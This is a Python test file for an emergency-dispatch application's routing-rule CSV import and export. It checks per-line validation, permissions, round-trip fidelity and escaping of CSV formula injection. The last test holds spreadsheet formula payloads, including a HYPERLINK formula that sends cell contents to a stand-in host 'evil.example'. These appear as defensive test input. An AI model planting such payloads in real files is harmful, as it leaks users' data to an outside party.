"""The routing table round-trips through CSV: export, import all rows or none, errors by line."""

from __future__ import annotations

import httpx
from sqlalchemy import func, select

from tests.factories import bearer, make_county_with_two_towns, make_user
from yingji.core.db import Database
from yingji.dispatch.models import RoutingRule

HEADER = (
    "category_prefix,levels,division_adcode,role,selector,unit_code,priority,note,active,"
    "when_trapped\n"
)


async def rule_count(db: Database) -> int:
    async with db.unit_of_work(readonly=True) as session:
        return int(await session.scalar(select(func.count()).select_from(RoutingRule)) or 0)


def upload(text: str) -> dict[str, tuple[str, bytes, str]]:
    return {"file": ("rules.csv", text.encode("utf-8"), "text/csv")}


async def test_import_with_bad_lines_reports_each_line_and_writes_nothing(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    text = (
        HEADER
        + "accident.fire,I|II,331126,lead,unit,TA,10,ok,true\n"
        + "accident.fire,V,,lead,unit,TA,10,,\n"  # line 3: no level V
        + "accident.fire,,,lead,unit,NOPE,10,,\n"  # line 4: no such unit
        + "accident.fire,,999999,co,town,,10,,\n"  # line 5: no such division
        + "accident.fire,,,boss,unit,TA,10,,\n"  # line 6: no such role
        + "accident.fire,,,lead,unit,,10,,\n"  # line 7: selector unit without unit
    )
    response = await client.post("/api/v1/routing-rules:import", headers=admin, files=upload(text))
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "import_failed"
    lines = [(e["line"], e["field"]) for e in error["details"]["errors"]]
    assert (3, "levels.0") in lines
    assert (4, "unit_code") in lines
    assert (5, "division_adcode") in lines
    assert (6, "role") in lines
    assert (7, "unit_code") in lines
    assert 2 not in [line for line, _ in lines]
    assert await rule_count(db) == 0


async def test_import_then_export_gives_back_the_same_rows_and_reimport_updates(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    text = (
        HEADER
        + "accident.fire,II|I,331126101000,lead,unit,TA,10,甲镇主办,true\n"
        + "accident,,,co,town,,50,,no,yes\n"
    )
    response = await client.post("/api/v1/routing-rules:import", headers=admin, files=upload(text))
    assert response.status_code == 200, response.text
    assert response.json() == {"created": 2, "updated": 0, "errors": []}
    listed = (await client.get("/api/v1/routing-rules", headers=admin)).json()
    fire = next(r for r in listed if r["category_prefix"] == "accident.fire")
    assert fire["levels"] == ["I", "II"] and fire["division_path"].endswith("331126101000/")
    accident = next(r for r in listed if r["category_prefix"] == "accident")
    assert accident["active"] is False and accident["when_trapped"] is True
    assert fire["when_trapped"] is False  # a blank cell: the rule applies to every incident

    exported = await client.get("/api/v1/routing-rules.csv", headers=admin)
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    body = exported.content.decode("utf-8-sig")
    assert body.splitlines()[0] + "\n" == HEADER
    assert "accident.fire,I|II,331126101000,lead,unit,TA,10,甲镇主办,true,false" in body
    assert "accident,,,co,town,,50,,false,true" in body

    again = await client.post(
        "/api/v1/routing-rules:import", headers=admin, files=upload(body.replace(",50,", ",60,"))
    )
    assert again.json() == {"created": 0, "updated": 2, "errors": []}
    assert await rule_count(db) == 2
    listed = (await client.get("/api/v1/routing-rules", headers=admin)).json()
    assert next(r for r in listed if r["category_prefix"] == "accident")["priority"] == 60


async def test_replace_empties_the_table_first(client: httpx.AsyncClient, db: Database) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    first = HEADER + "accident.fire,,,lead,unit,TA,10,,\nnatural,,,co,town,,10,,\n"
    await client.post("/api/v1/routing-rules:import", headers=admin, files=upload(first))
    response = await client.post(
        "/api/v1/routing-rules:import?replace=true",
        headers=admin,
        files=upload(HEADER + "natural.flood,,,lead,unit,TB,5,,\n"),
    )
    assert response.json()["created"] == 1
    listed = (await client.get("/api/v1/routing-rules", headers=admin)).json()
    assert [r["category_prefix"] for r in listed] == ["natural.flood"]


async def test_only_an_administrator_imports(client: httpx.AsyncClient, db: Database) -> None:
    await make_county_with_two_towns(db)
    officer = await bearer(client, "county")
    response = await client.post(
        "/api/v1/routing-rules:import",
        headers=officer,
        files=upload(HEADER + "accident.fire,,,lead,unit,TA,10,,\n"),
    )
    assert response.status_code == 403
    assert await rule_count(db) == 0


async def test_a_town_admin_replaces_only_its_towns_rules_and_imports_only_inside_its_town(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    await make_user(db, "admin_a", roles=["admin"], division="331126101000")
    admin, town = await bearer(client, "admin"), await bearer(client, "admin_a")
    table = (
        HEADER
        + "accident,,,co,town,,10,全县,\n"
        + "accident.fire,,331126101000,lead,unit,TA,10,甲镇,\n"
        + "accident.fire,,331126102000,lead,unit,TB,10,乙镇,\n"
    )
    assert (
        await client.post("/api/v1/routing-rules:import", headers=admin, files=upload(table))
    ).status_code == 200

    outside = (
        HEADER
        + "natural,,331126101000,lead,unit,TA,5,ok,\n"
        + "natural,,,co,town,,5,everywhere,\n"  # line 3: a rule for everywhere
        + "natural,,331126102000,co,town,,5,town B,\n"  # line 4: the other town
        + "natural,,331126,co,town,,5,the county,\n"  # line 5: above its town
        + "natural,,331126101000,co,unit,TB,5,unit of B,\n"  # line 6: the other town's unit
    )
    refused = await client.post(
        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(outside)
    )
    assert refused.status_code == 422
    errors = refused.json()["error"]["details"]["errors"]
    assert [(e["line"], e["field"]) for e in errors] == [
        (3, "division_adcode"),
        (4, "division_adcode"),
        (5, "division_adcode"),
        (6, "unit_code"),
    ]
    assert errors[0]["message"].startswith("permission_denied")
    assert await rule_count(db) == 3

    mine = HEADER + "natural,,331126101000,lead,unit,TA,5,甲镇防汛,true,false\n"
    replaced = await client.post(
        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(mine)
    )
    assert replaced.status_code == 200, replaced.text
    listed = (await client.get("/api/v1/routing-rules", headers=admin)).json()
    assert sorted(r["note"] for r in listed) == ["乙镇", "全县", "甲镇防汛"]

    # its export is what it may import back: the rules inside its town
    exported = (await client.get("/api/v1/routing-rules.csv", headers=town)).content
    assert exported.decode("utf-8-sig") == mine
    again = await client.post(
        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(exported.decode())
    )
    assert again.json() == {"created": 1, "updated": 0, "errors": []}
    assert await rule_count(db) == 3


async def test_rules_with_areas_and_formula_like_notes_round_trip_through_the_csv(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    units = {
        u["code"]: u["id"]
        for u in (await client.get("/api/v1/units", headers=admin)).json()["items"]
    }
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1)", "'=quoted"]
    paths = ["330000/331126/", "330000/331126/331126101000/", "330000/331126/331126102000/"]
    for i, note in enumerate(notes):
        added = await client.post(
            "/api/v1/routing-rules",
            headers=admin,
            json={
                "category_prefix": f"accident.c{chr(97 + i)}",
                "role": "lead",
                "unit_id": units["TA"],
                "division_path": paths[i % 3],
                "note": note,
            },
        )
        assert added.status_code == 201, added.text
    before = (await client.get("/api/v1/routing-rules", headers=admin)).json()

    body = (await client.get("/api/v1/routing-rules.csv", headers=admin)).content.decode(
        "utf-8-sig"
    )
    cells = [line.split(",", 7)[-1] for line in body.splitlines()[1:]]
    # no cell starts as a formula: each is text to a spreadsheet
    assert all(not c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "'=HYPERLINK" in body

    reimported = await client.post(
        "/api/v1/routing-rules:import?replace=true", headers=admin, files=upload(body)
    )
    assert reimported.status_code == 200, reimported.text
    after = (await client.get("/api/v1/routing-rules", headers=admin)).json()

    def strip_id(rules: list[dict]) -> list[dict]:
        return [{k: v for k, v in r.items() if k != "id"} for r in rules]

    assert strip_id(after) == strip_id(before)
